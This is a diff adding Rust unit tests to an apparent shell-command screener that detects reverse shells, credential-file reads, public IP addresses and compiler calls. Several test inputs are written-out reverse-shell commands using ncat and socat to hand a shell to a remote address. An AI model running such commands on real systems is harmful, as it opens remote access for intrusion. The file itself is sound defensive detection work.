@@ -416,4 +416,60 @@ mod tests {
         assert_eq!(compiler_in("/usr/bin/gcc -o x x.c"), Some("gcc"));
         assert_eq!(compiler_in("cat makefile"), None);
     }
+
+    #[test]
+    fn a_reverse_shell_needs_the_option_that_runs_a_program() {
+        assert_eq!(reverse_shell_marker("nc -v db 5432"), None);
+        assert_eq!(
+            reverse_shell_marker("ncat -c sh 10.0.0.1 9001"),
+            Some("netcat -e")
+        );
+        assert_eq!(reverse_shell_marker("socat - TCP:db:5432"), None);
+        assert_eq!(
+            reverse_shell_marker("socat TCP:1.2.3.4:80 system:sh"),
+            Some("socat exec")
+        );
+        assert_eq!(
+            reverse_shell_marker("socat TCP:1.2.3.4:80 exec:'bash -li',pty,stderr"),
+            Some("socat exec")
+        );
+        // The program's own path is not one of its arguments.
+        assert_eq!(reverse_shell_marker("/opt/pty/socat - TCP:db:5432"), None);
+    }
+
+    #[test]
+    fn credential_paths_are_whole_places() {
+        assert_eq!(credential_location("cat /proc/cpuinfo"), None);
+        assert_eq!(credential_location("cat /app/environ"), None);
+    }
+
+    #[test]
+    fn only_globally_routed_addresses_are_public() {
+        for reserved in [
+            "127.0.0.1",
+            "169.254.10.10",
+            "0.0.0.0",
+            "255.255.255.255",
+            "192.0.2.1",
+            "224.0.0.1",
+            "0.1.2.3",
+            "240.0.0.1",
+            "100.64.0.1",
+            "100.127.255.1",
+        ] {
+            assert_eq!(public_ipv4(&format!("ping {reserved}")), None, "{reserved}");
+        }
+        for public in ["8.70.1.1", "100.128.0.1", "100.63.0.1", "45.33.32.156"] {
+            assert_eq!(
+                public_ipv4(&format!("ping {public}")).map(|ip| ip.to_string()),
+                Some(public.to_string())
+            );
+        }
+    }
+
+    #[test]
+    fn versioned_compilers_are_compilers() {
+        assert_eq!(compiler_in("gcc-12 -o x x.c"), Some("gcc-12"));
+        assert_eq!(compiler_in("clang-17 x.c"), Some("clang-17"));
+    }
 }
